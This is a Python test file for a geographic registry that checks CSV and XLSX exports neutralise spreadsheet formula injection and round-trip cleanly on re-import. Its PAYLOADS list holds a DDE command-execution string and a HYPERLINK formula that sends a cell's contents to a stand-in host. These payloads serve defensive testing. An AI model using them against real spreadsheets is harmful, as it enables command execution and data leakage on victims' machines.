"""CSV/XLSX exports: text a spreadsheet would run as a formula is written inert, numbers stay
numbers, and an import of the file gives the original text back."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from sqlalchemy import text
from sqlalchemy.orm import Session

from geo import registry
from geo.io import export_layer, import_file
from geo.io.formulas import neutralise, neutralise_frame, restore, restore_frame
from geo.settings import Settings
from geo.users import Principal
from tests.api.helpers import SAMBAS_TOWN, feature, point

PAYLOADS = [
    '=HYPERLINK("http://x.invalid/?"&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        pytest.param("=1+1", "'=1+1", id="equals"),
        pytest.param("+62 812", "'+62 812", id="plus"),
        pytest.param("-5", "'-5", id="minus-text"),
        pytest.param("@x", "'@x", id="at"),
        pytest.param("\tx", "'\tx", id="tab"),
        pytest.param("\rx", "'\rx", id="cr"),
        pytest.param("''=x", "'''=x", id="quoted-twice"),
        pytest.param("PT Sawit = Maju", "PT Sawit = Maju", id="inside"),
        pytest.param("'plain", "'plain", id="apostrophe-only"),
        pytest.param(-5, -5, id="number"),
        pytest.param(None, None, id="none"),
    ],
)
def test_neutralise_and_restore(value: object, written: object) -> None:
    assert neutralise(value) == written
    assert restore(neutralise(value)) == value


@pytest.mark.parametrize(
    "cells",
    [
        pytest.param(["a", "b'=c", "plain"], id="none-to-change"),
        pytest.param(["a", "'=1+1", "b"], id="quoted-in-the-middle"),
        pytest.param(["'+62", "b"], id="quoted-first"),
        pytest.param(["a", "\x00'=x", "''-5"], id="nul-and-twice"),
        pytest.param(["a", None, "'=1"], id="with-a-blank"),
        pytest.param([1.5, "'@x", None], id="mixed"),
    ],
)
def test_frames_change_exactly_the_cells_the_per_cell_functions_change(cells: list[object]) -> None:
    # The frame functions skip a column whose joined text shows no candidate cell; they must
    # still give what mapping every cell gives.
    frame = pd.DataFrame({"name": pd.Series(cells, dtype=object), "n": range(len(cells))})
    for whole, cell in ((restore_frame, restore), (neutralise_frame, neutralise)):
        out = whole(frame)
        assert out["name"].tolist() == frame["name"].map(cell).tolist()
        assert out["n"].tolist() == list(range(len(cells)))
    assert frame["name"].tolist() == cells  # a copy: the input is untouched


def _workplaces(session: Session, settings: Settings) -> None:
    writer = Principal(name="formula-test", role="admin")
    for i, name in enumerate(PAYLOADS):
        registry.create_feature(
            session=session,
            layer=registry.get_layer("workplaces"),
            body=feature(
                point(*SAMBAS_TOWN),
                name=name,
                sector="plantation",
                foreign_worker_quota=10 + i,
                external_ref=f"WP-FORMULA-{i}",
            ),
            principal=writer,
            area=settings.area,
        )


def _stored(session: Session) -> dict[str, str]:
    """Names as stored (the registry strips surrounding white space, a leading tab included)."""
    rows = session.execute(
        text("SELECT external_ref, name FROM workplace WHERE external_ref LIKE 'WP-FORMULA-%'")
    ).all()
    return {r.external_ref: r.name for r in rows}


def _by_ref(rows: list[dict[str, str]]) -> dict[str, dict[str, str]]:
    return {r["external_ref"]: r for r in rows if r["external_ref"].startswith("WP-FORMULA-")}


def test_csv_cells_are_inert_and_import_back(
    session: Session, settings: Settings, tmp_path: Path
) -> None:
    _workplaces(session, settings)
    stored = _stored(session)
    out = tmp_path / "workplaces.csv"
    export_layer(session=session, layer="workplaces", fmt="csv", role="analyst", out=out)
    rows = _by_ref(list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8")))))
    assert len(rows) == len(PAYLOADS)
    for ref, name in stored.items():
        cell = rows[ref]["name"]
        assert cell == "'" + name
        assert cell[0] not in "=+-@\t\r"
    # Numbers are written as numbers.
    assert rows["WP-FORMULA-0"]["foreign_worker_quota"] == "10"
    assert float(rows["WP-FORMULA-0"]["lon"]) == pytest.approx(SAMBAS_TOWN[0])

    session.execute(text("DELETE FROM workplace WHERE external_ref LIKE 'WP-FORMULA-%'"))
    import_file(session=session, layer="workplaces", path=out, area=settings.area)
    assert _stored(session) == stored


def test_xlsx_has_no_formula_cells_and_numbers_stay_numbers(
    session: Session, settings: Settings, tmp_path: Path
) -> None:
    _workplaces(session, settings)
    stored = _stored(session)
    out = tmp_path / "workplaces.xlsx"
    export_layer(session=session, layer="workplaces", fmt="xlsx", role="analyst", out=out)
    sheet = openpyxl.load_workbook(out).active
    assert sheet is not None
    header = [c.value for c in sheet[1]]
    quota, name = header.index("foreign_worker_quota"), header.index("name")
    seen = 0
    for row in sheet.iter_rows(min_row=2):
        assert all(c.data_type != "f" for c in row)
        if str(row[header.index("external_ref")].value).startswith("WP-FORMULA-"):
            seen += 1
            assert str(row[name].value).startswith("'")
            assert isinstance(row[quota].value, int)
    assert seen == len(PAYLOADS)
    session.execute(text("DELETE FROM workplace WHERE external_ref LIKE 'WP-FORMULA-%'"))
    import_file(session=session, layer="workplaces", path=out, area=settings.area)
    assert _stored(session) == stored
